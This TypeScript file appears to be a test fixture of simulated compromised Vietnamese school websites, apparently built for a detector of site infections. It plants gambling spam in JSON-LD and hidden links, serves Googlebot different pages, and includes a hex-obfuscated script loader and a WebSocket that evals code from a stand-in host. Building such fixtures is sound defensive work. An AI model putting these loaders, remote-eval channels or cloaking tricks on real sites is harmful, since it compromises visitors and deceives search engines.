import { atEnd, type CorpusSite, inHead, isFromGoogle, isGooglebot, site } from '../corpus-site.ts';
import { schoolPages } from '../school-pages.ts';

const jsonLd = (data: object): string =>
  `<script type="application/ld+json">${JSON.stringify(data)}</script>`;

const house = {
  '@context': 'https://schema.org',
  '@type': 'Organization',
  name: 'Nhà cái uy tín MT77K',
  url: 'https://mtk-vao.fyi/',
  sameAs: ['https://t.me/cskh-mtk'],
  description: 'Link vào nhà cái MT77K không bị chặn, cá cược thể thao, nổ hũ tặng thưởng',
};

const shopOfGames = {
  '@context': 'https://schema.org',
  '@graph': [
    { '@type': 'WebSite', name: 'MBK', url: 'https://mbk-choi.cfd/' },
    {
      '@type': 'FAQPage',
      mainEntity: [
        {
          '@type': 'Question',
          name: 'Link vào MBK mới nhất?',
          acceptedAnswer: {
            '@type': 'Answer',
            text: '<a href="https://mbk-choi.cfd/">MBK</a>: đăng ký nhà cái, nhận thưởng chào mừng, chơi nổ hũ, cá cược bóng đá.',
          },
        },
      ],
    },
  ],
};

const badHost = {
  '@context': 'https://schema.org',
  '@type': 'EducationalOrganization',
  name: 'Trường THCS Đồng Mía Mới',
  sameAs: ['https://nhacai-dongmia.net/'],
};

const shop = (title: string): string =>
  `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1><p>商品の状態：新品、未使用。配送料の負担：送料込み。発送までの日数：1~2日で発送。</p><p>人気ブランド財布が最大80%OFF、送料無料。レディース 新品 限定モデル 入荷しました。</p></body></html>`;

const hexOf = (text: string): string =>
  Array.from(text, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');

const sitemapOf = (paths: readonly string[]): string =>
  `<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${paths.map((path) => `<url><loc>http://SELF${path}</loc></url>`).join('')}</urlset>`;

const missing = { status: 404, body: '<!doctype html><title>Không thấy</title><h1>Không thấy trang</h1>' };

/** What stands only where search engines look: data for machines, lists of pages that open for robots, codes without words. */
export const sites: readonly CorpusSite[] = [
  site(
    'infected',
    'structured-data-of-a-house',
    'JSON-LD calls the site a betting house, with its address; nothing else is planted',
    schoolPages('wordpress', 'Trường Tiểu học Đồng Mía Mới', [], (html) => inHead(html, jsonLd(house))),
  ),
  site(
    'infected',
    'structured-questions-of-a-house',
    'JSON-LD of questions and answers advertises a house under a coined name, on the home page alone',
    schoolPages('joomla', 'Trường THPT Đồng Mía Mới', [], (html) => inHead(html, jsonLd(shopOfGames))),
  ),
  site(
    'infected',
    'structured-link-to-a-house',
    'the JSON-LD of the school itself names a betting house as its other address',
    schoolPages('nukeviet', 'Trường THCS Đồng Mía Mới', [], (html) => inHead(html, jsonLd(badHost))),
  ),
  {
    id: 'listed-shops-for-robots',
    label: 'infected',
    about: 'a second sitemap lists Japanese shops that browsers do not find',
    respond: (request) => {
      const pages = schoolPages('wordpress', 'Trường THPT Bến Mía Mới');
      if (request.path === '/robots.txt')
        return { body: 'User-agent: *\nSitemap: http://SELF/sitemap-9.xml\n' };
      if (request.path === '/sitemap-9.xml')
        return {
          body: sitemapOf(Array.from({ length: 40 }, (_, index) => `/shop/item-${String(index)}.html`)),
        };
      if (request.path.startsWith('/shop/') && (isGooglebot(request) || isFromGoogle(request)))
        return { body: shop('【公式】財布 激安通販 送料無料') };
      const body = pages[request.path];
      return body === undefined ? missing : { body };
    },
  },
  {
    id: 'fed-page-for-robots',
    label: 'infected',
    about: 'a feed names one page that only robots open',
    respond: (request) => {
      const pages = schoolPages('nukeviet', 'Trường THCS Bến Mía Mới', [], (html) =>
        inHead(html, '<link rel="alternate" type="application/rss+xml" href="/rss.xml">'),
      );
      if (request.path === '/rss.xml')
        return {
          body: '<rss version="2.0"><channel><title>Tin</title><item><title>Thông tin mới</title><link>http://SELF/thong-tin-moi</link></item></channel></rss>',
        };
      if (request.path === '/thong-tin-moi' && isGooglebot(request))
        return {
          body: '<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Thông tin mới</title></head><body><h1>Thông tin mới</h1><p>Trang thông tin tổng hợp mỗi ngày, cập nhật lúc sáng sớm cho mọi người cùng đọc.</p></body></html>',
        };
      const body = pages[request.path];
      return body === undefined ? missing : { body };
    },
  },
  {
    id: 'canonical-for-robots',
    label: 'infected',
    about: 'Googlebot alone is told that the original stands under a plain strange name',
    respond: (request) => {
      const pages = schoolPages('nukeviet', 'Trường THPT Gò Mía Mới');
      const body = pages[request.path];
      if (body === undefined) return missing;
      return {
        body:
          request.path === '/' && isGooglebot(request)
            ? inHead(body, '<link rel="canonical" href="https://gomia-quangba.net/">')
            : body,
      };
    },
  },
  site(
    'infected',
    'loader-in-a-table',
    'every word of a short loader stands in a table of escapes',
    schoolPages('nukeviet', 'Trường THCS Gò Mía Mới', [], (html) =>
      atEnd(
        html,
        `<script>var _0x4f1a=['${['createElement', 'script', 'src', 'https://gomia-tai.net/c.js', 'head', 'appendChild'].map(hexOf).join("','")}'];(function(a,b){var c=a[_0x4f1a[0]](_0x4f1a[1]);c[_0x4f1a[2]]=_0x4f1a[3];a[_0x4f1a[4]][_0x4f1a[5]](c);})(document,window);</script>`,
      ),
    ),
  ),
  site(
    'infected',
    'orders-by-socket',
    'a line to a stranger brings code that is run as it comes',
    schoolPages('wordpress', 'Trường Tiểu học Gò Mía Mới', [], (html) =>
      atEnd(
        html,
        "<script>var w=new WebSocket('wss://tiep-gomia.net/s');w.onmessage=function(e){eval(e.data)}</script>",
      ),
    ),
  ),
  site(
    'infected',
    'offer-in-quotes-of-customers',
    'an advertisement quotes the praise of customers',
    schoolPages('nukeviet', 'Trường THCS Mía Lau Mới', [
      {
        slug: 'trai-nghiem',
        title: 'Trải nghiệm VIP66 cùng hàng nghìn ưu đãi',
        paragraphs: [
          '“Nhà cái VIP66 uy tín, nạp rút 1 phút, thưởng 200%” – khách hàng chia sẻ.',
          'Đăng ký VIP66 để nhận code, chơi tài xỉu, nổ hũ, bắn cá.',
        ],
      },
    ]),
  ),
  site(
    'infected',
    'links-below-a-warning',
    'two links of the trade stand right below the headline of a campaign against betting',
    schoolPages('joomla', 'Trường THPT Mía Lau Mới', [], (html) =>
      atEnd(
        html,
        '<h3>Nói không với cờ bạc, cá độ bóng đá</h3><p>Học sinh ký cam kết. Xem thêm <a href="https://tylekeo-mialau.net">tỷ lệ kèo</a> và <a href="https://w88-mialau.com">W88</a></p>',
      ),
    ),
  ),
];
